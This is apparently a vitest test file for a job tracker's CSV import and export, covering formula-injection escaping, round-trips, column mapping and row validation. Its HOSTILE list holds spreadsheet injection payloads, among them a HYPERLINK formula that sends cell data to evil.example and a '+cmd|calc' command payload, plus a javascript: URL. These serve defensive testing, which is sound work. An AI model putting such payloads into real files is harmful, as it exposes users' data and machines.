import type { Application } from '@jobai/shared/application';
import { describe, expect, test } from 'vitest';
import { testRow } from '../testRow.ts';
import { CSV_COLUMNS, HEADINGS } from './columns.ts';
import { plainCell, safeCell } from './formulas.ts';
import { type PlannedRow, planImport } from './plan.ts';
import { type CsvTable, decodeCsv, guessMapping, readCsv } from './read.ts';
import { toCsv } from './write.ts';

const now = new Date('2026-02-01T09:00:00.000Z');

function table(text: string): CsvTable {
  const read = readCsv(text);
  if (typeof read === 'string') throw new Error(read);
  return read;
}

function planned(text: string, tracked: Application[] = []): PlannedRow[] {
  const read = table(text);
  return planImport(read, guessMapping(read.headings), tracked, now);
}
const entries = (rows: PlannedRow[]) =>
  rows.flatMap((row) => (row.outcome === 'new' ? [row.entry] : []));

describe('D10: no cell is run as a formula', () => {
  const HOSTILE = [
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    '+cmd|calc',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '＝1',
    "'=1",
    "''=1",
    "' =1",
  ];
  test.each(HOSTILE)('%j starts with an apostrophe, and comes back as it was', (text) => {
    expect(safeCell(text)).toBe(`'${text}`);
    expect(plainCell(safeCell(text))).toBe(text);
  });
  test.each(['Acme', "'tis", 'a=b', '', '3M', "O'Neil"])('%j stays as it is', (text) => {
    expect(safeCell(text)).toBe(text);
    expect(plainCell(text)).toBe(text);
  });
  test('a phone number stays readable', () => {
    expect(safeCell('+49 30 1234-567')).toBe("'+49 30 1234-567");
    expect(safeCell('030 1234')).toBe('030 1234');
  });
  test('every text of an entry goes through it', () => {
    const evil = '=1+1';
    const texts = {
      company: evil,
      title: evil,
      location: evil,
      notes: evil,
      nextStep: evil,
      id: evil,
    };
    const salary = { min: 1, max: null, currency: evil, period: null };
    const { rows } = table(toCsv([testRow({ ...texts, salary })]).replaceAll("'=", '!='));
    expect(rows[0]?.cells.filter((cell) => cell === '!=1+1')).toHaveLength(7);
    expect(rows[0]?.cells.some((cell) => cell.startsWith('='))).toBe(false);
  });
});

describe('there and back', () => {
  const rows = [
    testRow({
      company: 'Müller, "Söhne"; GmbH',
      notes: 'line one\nline two\r\n=not a formula\n+49 30 123',
      location: '  @home',
      salary: { min: 80_000, max: null, currency: 'EUR', period: 'year' },
      dueOn: '2026-03-01',
      nextStep: '-call',
      priority: 'high',
      url: 'https://boards.greenhouse.io/acme/jobs/1',
      jobKey: 'greenhouse:acme:1',
      ats: 'greenhouse',
    }),
    testRow({ id: 'a2', jobKey: 'greenhouse:acme:1', status: 'phone_screen' }),
  ];

  test('an export read on another device gives the same entries', () => {
    const back = entries(planned(toCsv(rows)));
    expect(back).toHaveLength(2);
    const told = ({ updatedAt: _, jobKey: _j, location, ...row }: Application) => ({
      ...row,
      location: location.trim(),
    });
    expect(back.map(told)).toEqual(rows.map(told));
    expect(back[0]?.jobKey).toBe('greenhouse:acme:1');
  });
  test('read where it came from it adds nothing', () => {
    expect(planned(toCsv(rows), rows).map(({ outcome }) => outcome)).toEqual(['known', 'known']);
  });
  test('two applications for one job are two entries, as they were', () => {
    const url = 'https://boards.greenhouse.io/acme/jobs/1';
    const twice = ['x', 'y'].map((id) => testRow({ id, url, jobKey: 'greenhouse:acme:1' }));
    expect(entries(planned(toCsv(twice))).map(({ id }) => id)).toEqual(['x', 'y']);
  });
  test('it opens with the mark spreadsheets look for and names every column', () => {
    const text = toCsv([]);
    expect(text).toBe(`\ufeff${CSV_COLUMNS.join(',')}\r\n`);
    expect(readCsv(text)).toBe('csvEmpty');
  });
});

describe('reading', () => {
  test('semicolons, Excel letters, empty lines and rows as a spreadsheet counts them', () => {
    const text = decodeCsv(
      Uint8Array.from([...'Firma;Position\r\n\r\nM\u00fcller;Koch'].map((c) => c.charCodeAt(0)))
        .buffer,
    );
    const [row] = planned(text);
    expect(row).toMatchObject({ line: 3, outcome: 'new', company: 'Müller', title: 'Koch' });
  });
  test('a heading stands for one thing; unknown ones for nothing', () => {
    const mapping = guessMapping(['Employer', 'Company', 'Role', 'Job Link', 'Colour']);
    expect(mapping).toMatchObject({ company: 1, title: 2, url: 3, notes: null });
    const all = Object.values(HEADINGS).flat();
    expect(new Set(all).size).toBe(all.length);
  });
  test('an empty file and one too large are refused', () => {
    expect(readCsv('')).toBe('csvEmpty');
    expect(readCsv('company,title\n\n')).toBe('csvEmpty');
    expect(readCsv(`company\n${'x\n'.repeat(20_001)}`)).toBe('csvTooLarge');
  });
});

describe('rows', () => {
  const head = 'company,title,url,status,salary_min,due_on,status_since,priority,salary_period';

  test.each([
    [',Engineer,,,,,,,', 'company missing'],
    ['Acme,Engineer,nonsense,,,,,,', 'url link'],
    ['Acme,Engineer,javascript:alert(1),,,,,,', 'url link'],
    ['Acme,Engineer,,declined,,,,,', 'status status'],
    ['Acme,Engineer,,,a lot,,,,', 'salary_min amount'],
    ['Acme,Engineer,,,-5,,,,', 'salary_min amount'],
    ['Acme,Engineer,,,,04/05/2026,,,', 'due_on day'],
    ['Acme,Engineer,,,,2026-02-30,,,', 'due_on day'],
    ['Acme,Engineer,,,,,yesterday,,', 'status_since time'],
    ['Acme,Engineer,,,,,,urgent,', 'priority priority'],
    ['Acme,Engineer,,,1,,,,week', 'salary_period period'],
    [`${'x'.repeat(301)},Engineer,,,,,,,`, 'company tooLong'],
  ])('%s: %s', (line, fault) => {
    const [row] = planned(`${head}\n${line}`);
    expect(row?.outcome).toBe('fault');
    const faults = row?.outcome === 'fault' ? row.faults : [];
    expect(faults.map(({ column, code }) => `${column} ${code}`)).toEqual([fault]);
  });

  test('all faults of a row are told, and the valid rows beside it can be taken', () => {
    const rows = planned(`${head}\nAcme,,x,y,z,,,,\nBeta,Cook,,Phone Screen,"80,000",,,High,year`);
    expect(rows[0]).toMatchObject({ outcome: 'fault', line: 2 });
    expect(rows[0]?.outcome === 'fault' && rows[0].faults).toHaveLength(4);
    expect(entries(rows)).toMatchObject([
      {
        company: 'Beta',
        status: 'phone_screen',
        priority: 'high',
        salary: { min: 80_000, max: null, currency: '', period: 'year' },
        history: [{ from: null, to: 'phone_screen' }],
      },
    ]);
  });

  test.each([
    ['80000', 80_000],
    ['80k', 80_000],
    ['80.000', 80_000],
    ['80 000', 80_000],
    ['24.50', 24.5],
  ])('an amount of %s is %d', (text, min) => {
    expect(entries(planned(`company,title,salary_min\nA,B,${text}`))[0]?.salary?.min).toBe(min);
  });

  test('what is tracked, or stands above in the file, is not taken twice', () => {
    const link = 'https://job-boards.greenhouse.io/acme/jobs/9';
    const tracked = [
      testRow({ company: 'Acme', title: 'Engineer' }),
      testRow({ id: 'a2', url: link, jobKey: 'greenhouse:acme:9' }),
    ];
    const text = `company,title,url\nACME,engineer,\nX,Y,${link}?utm_source=z\nNew,One,\nnew,one,\nNew,Two,`;
    expect(planned(text, tracked).map(({ outcome }) => outcome)).toEqual([
      'known',
      'known',
      'new',
      'known',
      'new',
    ]);
  });

  test('a quote that never ends is a fault of its row', () => {
    const rows = planned('company,title\nAcme,Engineer\n"Beta,Cook');
    expect(rows.map(({ outcome }) => outcome)).toEqual(['new', 'fault']);
  });

  test('10,000 rows are planned in seconds', () => {
    const lines = Array.from({ length: 10_000 }, (_, n) => `Company ${n},Engineer`);
    expect(entries(planned(`company,title\n${lines.join('\n')}`))).toHaveLength(10_000);
  });
});
